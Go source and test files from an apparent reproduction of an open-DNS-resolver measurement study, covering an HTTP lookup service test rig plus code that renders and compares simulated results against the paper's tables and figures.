// newHTTPRig builds a service with a hand-populated store, an instant
// injected prober, and all API routes mounted on an httptest server —
// exactly how cmd/wildsvc mounts them on debughttp's mux.
func newHTTPRig(t *testing.T) (*Service, *httptest.Server) {
	t.Helper()
	svc := New(Config{Order: 12, BatchWindow: time.Millisecond}, Deps{
		Locator: testLoc,
		Metrics: metrics.New(),
	})
	svc.probeFn = func(_ context.Context, addr uint32) (Record, error) {
		return svc.store.RecordProbe(addr, svc.store.Epoch(), false, 0, false, testLoc), nil
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go svc.coalesce(ctx)

	if err := svc.store.ApplyEpoch(0, []scanner.ResponderDelta{
		add(5, dnswire.RCodeNoError),
		add(9, dnswire.RCodeRefused),
	}, testLoc); err != nil {
		t.Fatal(err)
	}
	if err := svc.store.ApplyEpoch(1, []scanner.ResponderDelta{remove(9)}, testLoc); err != nil {
		t.Fatal(err)
	}

	mux := http.NewServeMux()
	for _, r := range svc.APIRoutes() {
		mux.Handle(r.Pattern, r.Handler)
	}
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return svc, srv
}

func getStatus(t *testing.T, url string, want int, v any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != want {
		t.Fatalf("GET %s: status %d, want %d", url, resp.StatusCode, want)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("GET %s: content type %q", url, ct)
	}
	if v != nil {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			t.Fatalf("GET %s: decode: %v", url, err)
		}
	}
}

func TestHTTPResolverKnownOpen(t *testing.T) {
	_, srv := newHTTPRig(t)
	ip := lfsr.U32ToAddr(5).String()
	var got LookupResponse
	getStatus(t, srv.URL+"/resolver?ip="+ip, http.StatusOK, &got)
	want := LookupResponse{
		IP: ip, Known: true, Open: true, RCode: "NOERROR", Answered: true,
		Country: "US", RIR: "ARIN",
		FirstSeenEpoch: 0, LastSeenEpoch: 0, Flaps: 0,
		Epoch: 1, Source: "store",
	}
	if got != want {
		t.Fatalf("GET /resolver = %+v, want %+v", got, want)
	}
}

func TestHTTPResolverClosedOmitsRCode(t *testing.T) {
	_, srv := newHTTPRig(t)
	var got LookupResponse
	getStatus(t, srv.URL+"/resolver?ip="+lfsr.U32ToAddr(9).String(), http.StatusOK, &got)
	if got.Open || got.RCode != "" {
		t.Fatalf("closed resolver response: %+v", got)
	}
	// LastSeen means last seen *open*: the epoch-1 removal stamps
	// Checked, not LastSeen.
	if got.FirstSeenEpoch != 0 || got.LastSeenEpoch != 0 {
		t.Fatalf("closed resolver seen range: %+v", got)
	}
}

func TestHTTPResolverMissProbes(t *testing.T) {
	_, srv := newHTTPRig(t)
	ip := lfsr.U32ToAddr(77).String()
	var got LookupResponse
	getStatus(t, srv.URL+"/resolver?ip="+ip, http.StatusOK, &got)
	if got.Source != "probe" || got.Open || got.FirstSeenEpoch != NeverSeen {
		t.Fatalf("miss response: %+v", got)
	}
}

func TestHTTPResolverBadRequests(t *testing.T) {
	_, srv := newHTTPRig(t)
	for _, q := range []string{"", "?ip=", "?ip=not-an-ip", "?ip=2001:db8::1"} {
		var e map[string]string
		getStatus(t, srv.URL+"/resolver"+q, http.StatusBadRequest, &e)
		if e["error"] == "" {
			t.Fatalf("bad request %q: no error field", q)
		}
	}
}

func TestHTTPResolversListAndFilters(t *testing.T) {
	_, srv := newHTTPRig(t)
	var all []LookupResponse
	getStatus(t, srv.URL+"/resolvers", http.StatusOK, &all)
	if len(all) != 2 {
		t.Fatalf("/resolvers returned %d records, want 2", len(all))
	}
	var open []LookupResponse
	getStatus(t, srv.URL+"/resolvers?open=1", http.StatusOK, &open)
	if len(open) != 1 || !open[0].Open {
		t.Fatalf("/resolvers?open=1 = %+v", open)
	}
	var limited []LookupResponse
	getStatus(t, srv.URL+"/resolvers?limit=1", http.StatusOK, &limited)
	if len(limited) != 1 {
		t.Fatalf("/resolvers?limit=1 returned %d records", len(limited))
	}
	getStatus(t, srv.URL+"/resolvers?limit=-2", http.StatusBadRequest, nil)
}

func TestHTTPStatus(t *testing.T) {
	svc, srv := newHTTPRig(t)
	var st StatusResponse
	getStatus(t, srv.URL+"/svc/status", http.StatusOK, &st)
	want := StatusResponse{
		Epoch:   svc.Store().Epoch(),
		Records: svc.Store().Records(),
		Open:    svc.Store().OpenCount(),
		Pending: 0,
	}
	if st != want {
		t.Fatalf("/svc/status = %+v, want %+v", st, want)
	}
	if st.Epoch != 1 || st.Records != 2 || st.Open != 1 {
		t.Fatalf("/svc/status values: %+v", st)
	}
}
