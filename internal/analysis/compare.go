package analysis

import (
	"fmt"

	"goingwild/internal/churn"
	"goingwild/internal/classify"
	"goingwild/internal/devices"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/fingerprint"
	"goingwild/internal/snoop"
)

// Row is one paper-vs-measured comparison entry.
type Row struct {
	Experiment string
	Metric     string
	Paper      string
	Measured   string
}

// Markdown renders comparison rows as a markdown table.
func Markdown(rows []Row) string {
	out := "| Exp | Metric | Paper | Measured |\n|---|---|---|---|\n"
	for _, r := range rows {
		out += fmt.Sprintf("| %s | %s | %s | %s |\n", r.Experiment, r.Metric, r.Paper, r.Measured)
	}
	return out
}

// CompareFigure1 builds E1's comparison rows.
func CompareFigure1(series *churn.Series, scale Scale) []Row {
	first, last := series.First(), series.Last()
	if first == nil {
		// An empty series (a -weeks 0 run) has no endpoints to compare.
		return nil
	}
	return []Row{
		{"E1/Fig1", "NOERROR resolvers, first scan", "26.8M",
			human(scale.Extrapolate(first.ByRCode[dnswire.RCodeNoError]))},
		{"E1/Fig1", "NOERROR resolvers, last scan", "17.8M",
			human(scale.Extrapolate(last.ByRCode[dnswire.RCodeNoError]))},
		{"E1/Fig1", "REFUSED stability (last/first)", "≈1.0",
			fmt.Sprintf("%.2f", ratio(last.ByRCode[dnswire.RCodeRefused], first.ByRCode[dnswire.RCodeRefused]))},
	}
}

// CompareTables12 builds E2/E3 rows.
func CompareTables12(series *churn.Series, scale Scale) []Row {
	rows := []Row{}
	for _, r := range series.CountryFluctuation(3) {
		if r.Key == "XO" {
			continue
		}
		rows = append(rows, Row{"E2/Tab1", "top country " + r.Key + " fluctuation",
			paperCountryFluct(r.Key), fmt.Sprintf("%+.1f%%", r.Percent)})
	}
	for _, r := range series.RIRFluctuation() {
		rows = append(rows, Row{"E3/Tab2", r.Key + " fluctuation",
			paperRIRFluct(r.Key), fmt.Sprintf("%+.1f%%", r.Percent)})
	}
	return rows
}

func paperCountryFluct(code string) string {
	m := map[string]string{
		"US": "-14.2%", "CN": "-13.0%", "TR": "-32.2%", "VN": "-25.4%",
		"MX": "-14.4%", "IN": "+12.7%", "TH": "-53.5%", "IT": "-38.3%",
		"CO": "-36.2%", "TW": "-57.3%",
	}
	if v, ok := m[code]; ok {
		return v
	}
	return "n/a"
}

func paperRIRFluct(name string) string {
	m := map[string]string{
		"RIPE": "-33.2%", "APNIC": "-24.5%", "LACNIC": "-35.1%",
		"ARIN": "-12.1%", "AFRINIC": "-8.6%",
	}
	if v, ok := m[name]; ok {
		return v
	}
	return "n/a"
}

// CompareTable3 builds E4 rows.
func CompareTable3(s *fingerprint.ChaosSurvey) []Row {
	versioned := s.Outcomes[fingerprint.ChaosVersion]
	bind982 := s.Versions["BIND 9.8.2"]
	return []Row{
		{"E4/Tab3", "versioned share of CHAOS responders", "33.9%",
			fmt.Sprintf("%.1f%%", 100*s.VersionedShare())},
		{"E4/Tab3", "error-both share", "42.7%",
			fmt.Sprintf("%.1f%%", 100*float64(s.Outcomes[fingerprint.ChaosErrors])/float64(s.Responded))},
		{"E4/Tab3", "hidden-string share", "18.8%",
			fmt.Sprintf("%.1f%%", 100*float64(s.Outcomes[fingerprint.ChaosHiddenStr])/float64(s.Responded))},
		{"E4/Tab3", "BIND 9.8.2 among versioned", "19.8%",
			fmt.Sprintf("%.1f%%", 100*ratio(bind982, versioned))},
		{"E4/Tab3", "BIND family among versioned", "60.2%",
			fmt.Sprintf("%.1f%%", 100*ratio(s.VendorTotals["BIND"], versioned))},
	}
}

// CompareTable4 builds E5 rows.
func CompareTable4(s *fingerprint.DeviceSurvey) []Row {
	return []Row{
		{"E5/Tab4", "TCP-responsive share", "26.3%",
			fmt.Sprintf("%.1f%%", 100*ratio(s.Responsive, s.Scanned))},
		{"E5/Tab4", "router/modem/gateway share", "34.1%",
			fmt.Sprintf("%.1f%%", 100*ratio(s.Hardware[devices.HWRouter], s.Responsive))},
		{"E5/Tab4", "ZyNOS share", "16.6%",
			fmt.Sprintf("%.1f%%", 100*ratio(s.OS[devices.OSZyNOS], s.Responsive))},
		{"E5/Tab4", "unknown hardware share", "29.3%",
			fmt.Sprintf("%.1f%%", 100*ratio(s.Hardware[devices.HWUnknown], s.Responsive))},
	}
}

// CompareFigure2 builds E6 rows.
func CompareFigure2(c *churn.CohortStudy) []Row {
	week55 := c.SurvivalByWeek[len(c.SurvivalByWeek)-1]
	return []Row{
		{"E6/Fig2", "gone within first day", ">40%",
			fmt.Sprintf("%.1f%%", 100*(1-c.Day1Survival))},
		{"E6/Fig2", "gone within first week", "52.2%",
			fmt.Sprintf("%.1f%%", 100*(1-c.SurvivalByWeek[1]))},
		{"E6/Fig2", "still alive at final week", "4.0%",
			fmt.Sprintf("%.1f%%", 100*week55)},
		{"E6/Fig2", "dynamic rDNS tokens among day-1 churners", "67.4%",
			fmt.Sprintf("%.1f%%", 100*c.DynamicRDNSShare)},
	}
}

// CompareUtilization builds E7 rows.
func CompareUtilization(r *snoop.Result) []Row {
	return []Row{
		{"E7/§2.6", "responded to ≥1 snoop", "83.2%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Responded, r.Scanned))},
		{"E7/§2.6", "in use (≥3 TLD refreshes)", "61.6%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Counts[snoop.ClassInUse], r.Scanned))},
		{"E7/§2.6", "frequently used (≤5s re-add)", "38.7%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Frequent, r.Scanned))},
		{"E7/§2.6", "empty NS responses", "7.3%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Counts[snoop.ClassEmpty], r.Scanned))},
		{"E7/§2.6", "static/zero TTL", "4.0%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Counts[snoop.ClassStaticTTL], r.Scanned))},
		{"E7/§2.6", "TTL resetting ahead of expiry", "19.6%",
			fmt.Sprintf("%.1f%%", 100*ratio(r.Counts[snoop.ClassResetting], r.Scanned))},
	}
}

// CompareClassification builds E9–E11 rows from a full domain study.
func CompareClassification(rep *classify.Report, fig4 *classify.Figure4) []Row {
	t5 := rep.Table5
	rows := []Row{
		{"E9/Tab5", "HTTP payload obtained for tuples", "88.9%",
			fmt.Sprintf("%.1f%%", 100*rep.FetchedShare)},
		{"E9/Tab5", "LAN addresses among no-payload", "≤65.1%",
			fmt.Sprintf("%.1f%%", 100*rep.NoPayloadLANShare)},
		{"E9/Tab5", "Adult censorship avg", "88.6%",
			fmt.Sprintf("%.1f%%", 100*t5.Share(domains.Adult, classify.LCensorship).Avg)},
		{"E9/Tab5", "Gambling censorship avg", "75.9%",
			fmt.Sprintf("%.1f%%", 100*t5.Share(domains.Gambling, classify.LCensorship).Avg)},
		{"E9/Tab5", "NX search avg", "35.7%",
			fmt.Sprintf("%.1f%%", 100*t5.Share(domains.NX, classify.LSearch).Avg)},
		{"E9/Tab5", "Banking HTTP-error avg", "55.4%",
			fmt.Sprintf("%.1f%%", 100*t5.Share(domains.Banking, classify.LHTTPError).Avg)},
	}
	if fig4 != nil {
		rows = append(rows,
			Row{"E10/Fig4", "CN share of unexpected (FB/TW/YT)", "83.6%",
				fmt.Sprintf("%.1f%%", 100*fig4.Unexpected["CN"])},
			Row{"E10/Fig4", "IR share of unexpected (FB/TW/YT)", "12.9%",
				fmt.Sprintf("%.1f%%", 100*fig4.Unexpected["IR"])})
	}
	cs := rep.Cases
	rows = append(rows,
		Row{"E11/§4.3", "HTTP-only proxy IPs", "10", fmt.Sprintf("%d", cs.ProxyPlainIPs)},
		Row{"E11/§4.3", "proxy resolvers plain vs TLS", "10,179 vs 99",
			fmt.Sprintf("%d vs %d", cs.ProxyPlainResolvers, cs.ProxyTLSResolvers)},
		Row{"E11/§4.3", "PayPal phishing IPs", "16", fmt.Sprintf("%d", cs.PhishPayPalIPs)},
		Row{"E11/§4.3", "malware-dropper IPs", "30", fmt.Sprintf("%d", cs.MalwareIPs)},
		Row{"E11/§4.3", "mail-listening IPs", "1,135", fmt.Sprintf("%d", cs.MailListenerIPs)},
	)
	return rows
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}
