// Package analysis renders measurement results in the shape of the
// paper's tables and figures, with raw simulated counts and their
// extrapolation to the paper's 2^32 address space, and builds the
// paper-vs-measured comparison rows recorded in EXPERIMENTS.md.
package analysis

import (
	"fmt"
	"sort"
	"strings"

	"goingwild/internal/churn"
	"goingwild/internal/classify"
	"goingwild/internal/devices"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/fingerprint"
	"goingwild/internal/prefilter"
	"goingwild/internal/snoop"
	"goingwild/internal/software"
)

// Scale carries the extrapolation factor from the simulated space to the
// paper's Internet.
type Scale float64

// Extrapolate converts a simulated count to paper scale.
func (s Scale) Extrapolate(n int) float64 { return float64(n) * float64(s) }

// fmtCount renders a raw count with its extrapolation.
func (s Scale) fmtCount(n int) string {
	if s <= 1 {
		return fmt.Sprintf("%d", n)
	}
	return fmt.Sprintf("%d (≈%s at paper scale)", n, human(s.Extrapolate(n)))
}

func human(v float64) string {
	switch {
	case v >= 1e6:
		return fmt.Sprintf("%.1fM", v/1e6)
	case v >= 1e3:
		return fmt.Sprintf("%.1fk", v/1e3)
	default:
		return fmt.Sprintf("%.0f", v)
	}
}

// RenderFigure1 prints the weekly responder series.
func RenderFigure1(series *churn.Series, scale Scale) string {
	var sb strings.Builder
	sb.WriteString("Figure 1 — responding DNS resolvers per weekly scan\n")
	sb.WriteString("week    ALL       NOERROR   REFUSED   SERVFAIL\n")
	for _, w := range series.Weeks {
		fmt.Fprintf(&sb, "%4d  %8.0f  %8.0f  %8.0f  %8.0f\n",
			w.Week,
			scale.Extrapolate(w.Total),
			scale.Extrapolate(w.ByRCode[dnswire.RCodeNoError]),
			scale.Extrapolate(w.ByRCode[dnswire.RCodeRefused]),
			scale.Extrapolate(w.ByRCode[dnswire.RCodeServFail]))
	}
	return sb.String()
}

// RenderTable1 prints the country-fluctuation table.
func RenderTable1(series *churn.Series, scale Scale, topN int) string {
	var sb strings.Builder
	sb.WriteString("Table 1 — resolver fluctuation per country\n")
	sb.WriteString("country   first-scan   last-scan   fluctuation\n")
	for _, row := range series.CountryFluctuation(topN) {
		fmt.Fprintf(&sb, "%-8s %11.0f %11.0f   %+8.0f (%+.1f%%)\n",
			row.Key, scale.Extrapolate(row.Start), scale.Extrapolate(row.End),
			scale.Extrapolate(row.Fluctuation), row.Percent)
	}
	return sb.String()
}

// RenderTable2 prints the RIR-fluctuation table.
func RenderTable2(series *churn.Series, scale Scale) string {
	var sb strings.Builder
	sb.WriteString("Table 2 — resolver fluctuation per Regional Internet Registry\n")
	sb.WriteString("RIR        first-scan   last-scan   fluctuation\n")
	for _, row := range series.RIRFluctuation() {
		fmt.Fprintf(&sb, "%-9s %11.0f %11.0f   %+8.0f (%+.1f%%)\n",
			row.Key, scale.Extrapolate(row.Start), scale.Extrapolate(row.End),
			scale.Extrapolate(row.Fluctuation), row.Percent)
	}
	return sb.String()
}

// RenderTable3 prints the CHAOS software table with the curated CVE
// annotations.
func RenderTable3(s *fingerprint.ChaosSurvey, topN int) string {
	var sb strings.Builder
	sb.WriteString("Table 3 — CHAOS version fingerprinting\n")
	fmt.Fprintf(&sb, "responders: %d; error-both %.1f%%, no-version %.1f%%, hidden %.1f%%, versioned %.1f%%\n",
		s.Responded,
		100*float64(s.Outcomes[fingerprint.ChaosErrors])/float64(s.Responded),
		100*float64(s.Outcomes[fingerprint.ChaosNoVersion])/float64(s.Responded),
		100*float64(s.Outcomes[fingerprint.ChaosHiddenStr])/float64(s.Responded),
		100*s.VersionedShare())
	type row struct {
		name  string
		count int
		meta  *software.Entry
	}
	versioned := s.Outcomes[fingerprint.ChaosVersion]
	var rows []row
	for name, n := range s.Versions {
		r := row{name: name, count: n}
		for i := range software.Catalog {
			e := &software.Catalog[i]
			if name == e.Vendor+" "+e.Version {
				r.meta = e
			}
		}
		rows = append(rows, r)
	}
	// rows came out of a map: break count ties by name so the table is
	// byte-stable across runs.
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].count != rows[j].count {
			return rows[i].count > rows[j].count
		}
		return rows[i].name < rows[j].name
	})
	if len(rows) > topN {
		rows = rows[:topN]
	}
	sb.WriteString("software              share   released   deprecated   CVE classes\n")
	for _, r := range rows {
		released, deprecated, cves := "?", "?", ""
		if r.meta != nil {
			released, deprecated = r.meta.Released, r.meta.Deprecated
			var cc []string
			for _, v := range r.meta.Vulns {
				cc = append(cc, string(v))
			}
			cves = strings.Join(cc, ", ")
		}
		fmt.Fprintf(&sb, "%-20s %5.1f%%   %-9s  %-10s   %s\n",
			r.name, 100*float64(r.count)/float64(versioned), released, deprecated, cves)
	}
	fmt.Fprintf(&sb, "BIND family share among versioned: %.1f%%\n",
		100*float64(s.VendorTotals["BIND"])/float64(versioned))
	return sb.String()
}

// RenderTable4 prints the device-fingerprinting table.
func RenderTable4(s *fingerprint.DeviceSurvey) string {
	var sb strings.Builder
	sb.WriteString("Table 4 — device fingerprinting of TCP-responsive resolvers\n")
	fmt.Fprintf(&sb, "scanned %d resolvers; %d (%.1f%%) returned TCP payload\n",
		s.Scanned, s.Responsive, 100*float64(s.Responsive)/float64(s.Scanned))
	sb.WriteString("hardware:")
	hwOrder := []devices.Hardware{devices.HWRouter, devices.HWEmbedded, devices.HWFirewall,
		devices.HWCamera, devices.HWDVR, devices.HWNAS, devices.HWDSLAM, devices.HWOther, devices.HWUnknown}
	for _, hw := range hwOrder {
		fmt.Fprintf(&sb, "  %s %.1f%%", hw, 100*float64(s.Hardware[hw])/float64(s.Responsive))
	}
	sb.WriteString("\nOS:      ")
	osOrder := []devices.OS{devices.OSLinux, devices.OSZyNOS, devices.OSEmbedded, devices.OSUnix,
		devices.OSWindows, devices.OSSmartWare, devices.OSRouterOS, devices.OSCentOS, devices.OSOther, devices.OSUnknown}
	for _, os := range osOrder {
		fmt.Fprintf(&sb, "  %s %.1f%%", os, 100*float64(s.OS[os])/float64(s.Responsive))
	}
	sb.WriteString("\n")
	return sb.String()
}

// RenderFigure2 prints the cohort survival curve.
func RenderFigure2(c *churn.CohortStudy) string {
	var sb strings.Builder
	sb.WriteString("Figure 2 — IP address churn of the first-scan cohort\n")
	fmt.Fprintf(&sb, "cohort: %d resolvers; day-1 survival %.1f%%\n",
		len(c.Cohort), 100*c.Day1Survival)
	for week, s := range c.SurvivalByWeek {
		fmt.Fprintf(&sb, "week %2d: %5.1f%% %s\n", week, 100*s, bar(s, 50))
	}
	fmt.Fprintf(&sb, "dynamic-token rDNS among one-day churners: %.1f%% (of %d with rDNS)\n",
		100*c.DynamicRDNSShare, c.RDNSCount)
	if len(c.Survivors) > 0 && c.TopSurvivorNetworks > 0 {
		fmt.Fprintf(&sb, "final survivors: %d; top-3 networks hold %.1f%% of them\n",
			len(c.Survivors), 100*c.TopSurvivorNetworks)
	}
	return sb.String()
}

func bar(v float64, width int) string {
	n := int(v * float64(width))
	if n < 0 {
		n = 0
	}
	if n > width {
		n = width
	}
	return strings.Repeat("#", n)
}

// RenderUtilization prints the cache-snooping study.
func RenderUtilization(r *snoop.Result) string {
	var sb strings.Builder
	sb.WriteString("Resolver utilization via DNS cache snooping (§2.6)\n")
	fmt.Fprintf(&sb, "scanned %d resolvers; %d (%.1f%%) answered ≥1 probe\n",
		r.Scanned, r.Responded, 100*float64(r.Responded)/float64(r.Scanned))
	order := []snoop.Class{snoop.ClassInUse, snoop.ClassResetting, snoop.ClassEmpty,
		snoop.ClassStaticTTL, snoop.ClassDecreasing, snoop.ClassSingleStop,
		snoop.ClassInsufficient, snoop.ClassUnreachable}
	for _, c := range order {
		fmt.Fprintf(&sb, "  %-18s %6.1f%%\n", c, 100*float64(r.Counts[c])/float64(r.Scanned))
	}
	fmt.Fprintf(&sb, "  %-18s %6.1f%%  (re-cached within seconds of expiry)\n",
		"in-use, frequent", 100*float64(r.Frequent)/float64(r.Scanned))
	return sb.String()
}

// RenderPrefilter prints the §4.1 prefiltering summary.
func RenderPrefilter(pre *prefilter.Result) string {
	var sb strings.Builder
	sb.WriteString("DNS-based prefiltering (§4.1)\n")
	sb.WriteString("domain                                  legit   empty  unexpected  error\n")
	for i := range pre.PerDomain {
		d := &pre.PerDomain[i]
		fmt.Fprintf(&sb, "%-38s %6.1f%% %6.1f%%   %6.1f%%  %6.1f%%\n",
			d.Name,
			100*d.Share(prefilter.ClassLegit),
			100*d.Share(prefilter.ClassEmpty),
			100*d.Share(prefilter.ClassUnexpected),
			100*d.Share(prefilter.ClassErrorRCode))
	}
	return sb.String()
}

// RenderTable5 prints the label×category matrix.
func RenderTable5(t *classify.Table5, cats []domains.Category) string {
	var sb strings.Builder
	sb.WriteString("Table 5 — classification of unexpected (domain ∘ ip ∘ resolver) tuples\n")
	sb.WriteString("label        ")
	for _, cat := range cats {
		fmt.Fprintf(&sb, " %-12s", truncate(string(cat), 12))
	}
	sb.WriteString("\n")
	for _, l := range classify.TableLabels {
		fmt.Fprintf(&sb, "%-12s ", l)
		for _, cat := range cats {
			st := t.Share(cat, l)
			fmt.Fprintf(&sb, " %4.1f (%4.1f) ", 100*st.Avg, 100*st.Max)
		}
		sb.WriteString("\n")
	}
	sb.WriteString("cells: average%% (max%% for a single domain of the category)\n")
	return sb.String()
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}

// RenderFigure4 prints the censorship geography figure.
func RenderFigure4(f *classify.Figure4) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Figure 4 — resolver country distribution for %s\n", strings.Join(f.Domains, ", "))
	sb.WriteString("(a) all responses:        ")
	for _, e := range classify.TopCountries(f.All, 8) {
		fmt.Fprintf(&sb, "%s %.1f%%  ", e.Country, 100*e.Share)
	}
	sb.WriteString("\n(b) unexpected responses: ")
	for _, e := range classify.TopCountries(f.Unexpected, 5) {
		fmt.Fprintf(&sb, "%s %.1f%%  ", e.Country, 100*e.Share)
	}
	fmt.Fprintf(&sb, "\nsuspicious resolvers: %d\n", f.UnexpectedCount)
	return sb.String()
}

// RenderCaseStudies prints the §4.3 findings.
func RenderCaseStudies(cs *classify.CaseStudies, scale Scale) string {
	var sb strings.Builder
	sb.WriteString("Case studies (§4.3)\n")
	fmt.Fprintf(&sb, "  ad injection:        %d IPs, %s resolvers\n", cs.AdInjectIPs, scale.fmtCount(cs.AdInjectResolvers))
	fmt.Fprintf(&sb, "  ad blocking:         %d IPs, %s resolvers\n", cs.AdBlockIPs, scale.fmtCount(cs.AdBlockResolvers))
	fmt.Fprintf(&sb, "  fake search w/ ads:  %d IPs, %s resolvers\n", cs.AdFakeSearchIPs, scale.fmtCount(cs.AdFakeSearchResolvers))
	fmt.Fprintf(&sb, "  TLS proxies:         %d IPs, %s resolvers\n", cs.ProxyTLSIPs, scale.fmtCount(cs.ProxyTLSResolvers))
	fmt.Fprintf(&sb, "  HTTP-only proxies:   %d IPs, %s resolvers\n", cs.ProxyPlainIPs, scale.fmtCount(cs.ProxyPlainResolvers))
	fmt.Fprintf(&sb, "  PayPal phishing:     %d IPs (%d self-signed TLS), %s resolvers\n",
		cs.PhishPayPalIPs, cs.PhishPayPalTLS, scale.fmtCount(cs.PhishPayPalResolvers))
	fmt.Fprintf(&sb, "  bank phishing:       %d IPs, %s resolvers\n", cs.PhishBankIPs, scale.fmtCount(cs.PhishBankResolvers))
	fmt.Fprintf(&sb, "  other phishing:      %d IPs, %s resolvers\n", cs.PhishOtherIPs, scale.fmtCount(cs.PhishOtherResolvers))
	fmt.Fprintf(&sb, "  mail interception:   %d IPs (%d banner mimics), %s resolvers\n",
		cs.MailListenerIPs, cs.MailMimicIPs, scale.fmtCount(cs.MailRedirResolvers))
	fmt.Fprintf(&sb, "  malware delivery:    %d IPs, %s resolvers\n", cs.MalwareIPs, scale.fmtCount(cs.MalwareResolvers))
	fmt.Fprintf(&sb, "  GFW double responses: %s resolvers\n", scale.fmtCount(cs.DoubleResponseResolvers))
	fmt.Fprintf(&sb, "  self-IP answers:     %s resolvers\n", scale.fmtCount(cs.SelfIPResolvers))
	fmt.Fprintf(&sb, "  static single IP:    %s resolvers\n", scale.fmtCount(cs.StaticIPResolvers))
	fmt.Fprintf(&sb, "  same set >1 domain:  %s resolvers\n", scale.fmtCount(cs.SameSetResolvers))
	return sb.String()
}
