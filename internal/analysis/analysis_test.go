package analysis

import (
	"strings"
	"testing"

	"goingwild/internal/churn"
	"goingwild/internal/classify"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/geodb"
	"goingwild/internal/snoop"
)

func sampleSeries() *churn.Series {
	return &churn.Series{Weeks: []churn.WeekObservation{
		{
			Week: 0, Total: 1000,
			ByRCode:   map[dnswire.RCode]int{dnswire.RCodeNoError: 860, dnswire.RCodeRefused: 80, dnswire.RCodeServFail: 60},
			ByCountry: map[string]int{"US": 100, "CN": 80, "TR": 50},
			ByRIR:     map[geodb.RIR]int{geodb.RIPE: 400, geodb.APNIC: 300, geodb.LACNIC: 150, geodb.ARIN: 100, geodb.AFRINIC: 50},
		},
		{
			Week: 55, Total: 720,
			ByRCode:   map[dnswire.RCode]int{dnswire.RCodeNoError: 600, dnswire.RCodeRefused: 80, dnswire.RCodeServFail: 40},
			ByCountry: map[string]int{"US": 86, "CN": 70, "TR": 34},
			ByRIR:     map[geodb.RIR]int{geodb.RIPE: 270, geodb.APNIC: 230, geodb.LACNIC: 100, geodb.ARIN: 85, geodb.AFRINIC: 35},
		},
	}}
}

func TestRenderFigure1(t *testing.T) {
	out := RenderFigure1(sampleSeries(), Scale(1))
	if !strings.Contains(out, "NOERROR") || !strings.Contains(out, "860") {
		t.Errorf("figure 1 render:\n%s", out)
	}
}

func TestRenderTables12(t *testing.T) {
	t1 := RenderTable1(sampleSeries(), Scale(1), 3)
	if !strings.Contains(t1, "US") || !strings.Contains(t1, "-14.0%") {
		t.Errorf("table 1 render:\n%s", t1)
	}
	t2 := RenderTable2(sampleSeries(), Scale(1))
	for _, rir := range []string{"RIPE", "APNIC", "LACNIC", "ARIN", "AFRINIC"} {
		if !strings.Contains(t2, rir) {
			t.Errorf("table 2 missing %s:\n%s", rir, t2)
		}
	}
}

func TestScaleExtrapolation(t *testing.T) {
	s := Scale(4096)
	if got := s.Extrapolate(100); got != 409600 {
		t.Errorf("extrapolate = %f", got)
	}
	if out := s.fmtCount(100); !strings.Contains(out, "409.6k") {
		t.Errorf("fmtCount = %q", out)
	}
	if out := Scale(1).fmtCount(100); out != "100" {
		t.Errorf("unit scale fmtCount = %q", out)
	}
}

func TestHuman(t *testing.T) {
	cases := []struct {
		v    float64
		want string
	}{
		{42, "42"}, {1500, "1.5k"}, {26.8e6, "26.8M"},
	}
	for _, c := range cases {
		if got := human(c.v); got != c.want {
			t.Errorf("human(%f) = %q, want %q", c.v, got, c.want)
		}
	}
}

func TestRenderUtilization(t *testing.T) {
	r := &snoop.Result{
		Scanned: 100, Responded: 83, Frequent: 39,
		Counts: map[snoop.Class]int{
			snoop.ClassInUse: 62, snoop.ClassResetting: 20,
			snoop.ClassEmpty: 7, snoop.ClassUnreachable: 17,
		},
	}
	out := RenderUtilization(r)
	if !strings.Contains(out, "83.0%") || !strings.Contains(out, "in-use") {
		t.Errorf("utilization render:\n%s", out)
	}
}

func TestRenderTable5AndMarkdown(t *testing.T) {
	tb := classify.NewTable5()
	tb.AddDomain(domains.Adult, "youporn.com", map[classify.Label]int{classify.LCensorship: 9, classify.LHTTPError: 1}, 10)
	tb.Finalize()
	out := RenderTable5(tb, []domains.Category{domains.Adult})
	if !strings.Contains(out, "Censorship") || !strings.Contains(out, "90.0") {
		t.Errorf("table 5 render:\n%s", out)
	}
	rows := []Row{{"E1", "metric", "1", "2"}}
	md := Markdown(rows)
	if !strings.Contains(md, "| E1 | metric | 1 | 2 |") {
		t.Errorf("markdown = %q", md)
	}
}

func TestCompareBuilders(t *testing.T) {
	rows := CompareFigure1(sampleSeries(), Scale(1))
	if len(rows) != 3 {
		t.Errorf("figure1 rows = %d", len(rows))
	}
	rows = CompareTables12(sampleSeries(), Scale(1))
	if len(rows) < 5 {
		t.Errorf("tables12 rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.Paper == "" || r.Measured == "" {
			t.Errorf("incomplete row %+v", r)
		}
	}
}

func TestRenderFigure4(t *testing.T) {
	f := &classify.Figure4{
		Domains:         []string{"facebook.com"},
		All:             map[string]float64{"CN": 0.13, "US": 0.10},
		Unexpected:      map[string]float64{"CN": 0.84, "IR": 0.13},
		UnexpectedCount: 123,
	}
	out := RenderFigure4(f)
	if !strings.Contains(out, "CN 84.0%") || !strings.Contains(out, "123") {
		t.Errorf("figure 4 render:\n%s", out)
	}
}

func TestBarClamps(t *testing.T) {
	if bar(-0.5, 10) != "" {
		t.Error("negative bar not clamped")
	}
	if len(bar(2.0, 10)) != 10 {
		t.Error("overflow bar not clamped")
	}
}

// TestEmptySeriesRendersWithoutPanic covers the -weeks 0 path end to
